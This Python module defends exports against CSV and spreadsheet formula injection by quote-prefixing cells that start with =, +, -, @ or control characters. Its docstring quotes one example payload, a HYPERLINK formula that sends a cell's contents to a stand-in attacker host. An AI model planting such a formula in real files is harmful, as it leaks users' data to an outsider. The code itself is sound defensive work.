"""Cells for spreadsheets: text from records never becomes a live formula (CSV injection).

A title typed into a partner's form (``=HYPERLINK("http://evil.example/?"&A1,"Klik")``) is
imported as a record and exported again; opened in Excel, a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) would run as a formula. The OWASP rule:
such a cell gets a ``'`` in front in CSV (Excel then shows it as text), and in a workbook it is
stored as text with Excel's quote prefix, so it reads exactly as written. Every writer of CSV or
Excel in the tool goes through here.
"""

from __future__ import annotations

from typing import Any, Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_risky(value: object) -> bool:
    """Whether a spreadsheet could take ``value`` for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(text: str) -> str:
    """``text`` for a CSV cell: a ``'`` in front of anything a spreadsheet would evaluate."""
    return "'" + text if is_risky(text) else text


def csv_row(cells: list[str]) -> list[str]:
    """Every cell of a CSV row through ``csv_cell``."""
    return [csv_cell(c) for c in cells]


def append_row(sheet: Any, values: list[Any], *, font: Any = None,
               date_format: str | None = None) -> None:
    """``sheet.append(values)`` with every text that looks like a formula kept as text.

    openpyxl turns a string that starts with ``=`` into a formula; such a value is appended as
    a cell of type text with Excel's quote prefix, so neither openpyxl nor Excel evaluates it.
    A control character, which a worksheet cannot hold (openpyxl refuses the whole cell), is
    written as an escape (``\x1b``). With ``font``, every cell of the row has it; with
    ``date_format``, every date. The cells are made before the row is appended, so a sheet of
    openpyxl's write-only mode takes them as well as an ordinary one (and neither is searched
    for its last row, which made each append slower the longer the sheet).
    """
    import datetime as dt

    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub(_escaped, value)
        styled = font is not None and value is not None
        # openpyxl also takes an error's name (``#N/A``) for an error value: kept as text too
        text = is_risky(value) or value in ERROR_CODES
        if text or styled or (date_format and isinstance(value, dt.date)):
            cell = Cell(sheet, row=1, column=1, value=value)  # placed by append
            if text:
                cell.data_type = "s"
                cell.quotePrefix = True
            if styled:
                cell.font = font
            if date_format and isinstance(value, dt.date):
                cell.number_format = date_format
            value = cell
        row.append(value)
    sheet.append(row)


def _escaped(found: Any) -> str:
    return f"\\x{ord(found.group()):02x}"
